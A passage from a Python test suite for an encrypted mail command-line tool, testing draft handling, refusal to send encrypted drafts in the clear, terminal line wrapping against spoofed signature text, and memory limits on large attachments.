        os.chdir(cwd)
    assert code == 0 and 'Send it?' in seen, seen
    assert sealmail.path('mode').read_text().startswith('-rw-------')
    drafts = list((home / 'mail').glob('draft-*.eml'))
    if word == 'y':
        sent = sealmail.path('sent').read_bytes()
        assert b'Hello Alice' in sent and b'In-Reply-To: <1@x>' in sent and drafts == []
    else:
        assert not sealmail.path('sent').exists() and len(drafts) == 1 and str(drafts[0]) in seen.replace('\r\n', '')


def test_a_draft_from_an_encrypted_letter_is_not_sent_in_the_open(sealmail, answer):
    sealmail('mail', 'reply', *sealmail.trust(), *sealmail.identity('bob'), '-o', 'd.eml', '-', stdin=sealmail.letter_and_seal())
    draft = b'From: bob@example.org\n' + sealmail.path('d.eml').read_bytes()
    assert sealmail('send', '--dry-run', '-t', '--maildir', 'mail', '--home', 'h', stdin=draft, exit=None).returncode in (30, 31)


def test_long_lines_do_not_reach_the_first_column_of_a_terminal(sealmail, box):
    cover = ' ' * 70 + 'Signed by The Bank <bank@example.org>. ' * 4
    box.add(one('text/plain; charset=utf-8', ('\u4e2d' * 38 + cover), head=HEAD.replace('hello', cover)))
    env = {**sealmail.env, 'TERM': 'dumb'}
    place = ['--maildir', box.dir, '--home', sealmail.path('home')]
    for words in (['show', *place, '1'], ['list', *place]):
        code, seen = at_a_terminal([SEALMAIL, 'mail', *words], env)
        lines = seen.replace('\r\n', '\n').split('\n')
        width = [sum(2 if unicodedata.east_asian_width(c) == 'W' else 1 for c in l) for l in lines]
        assert max(width) <= 80 and not [l for l in lines if l.startswith(('Sign', 'by', 'The', '\u4e2d'))], seen


@pytest.mark.skipif(bool(os.environ.get('SEALMAIL_SANITIZED')) or 'ASAN_OPTIONS' in os.environ, reason='a sanitizer needs all address space')
def test_a_letter_that_needs_too_much_memory_ends_its_reader_and_nothing_else(sealmail, box):
    box.add(attached('big.bin', data='x' * (60 << 20)))
    done = box('show', '1', exit=None, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (150 << 20, 150 << 20)))
    assert done.returncode in (40, 70) and done.stdout == b'' and 'memory' in done.err
    assert len(box.list()) == 1


def test_a_letter_larger_than_the_limit_is_named_with_the_way_to_read_it(show):
    done = show.sealmail('mail', 'show', *show.evidence, '-', stdin=attached('big.bin', data='x' * (130 << 20)), exit=40)
    assert 'view-bytes' in done.err and 'sealmail open -o FILE' in done.err
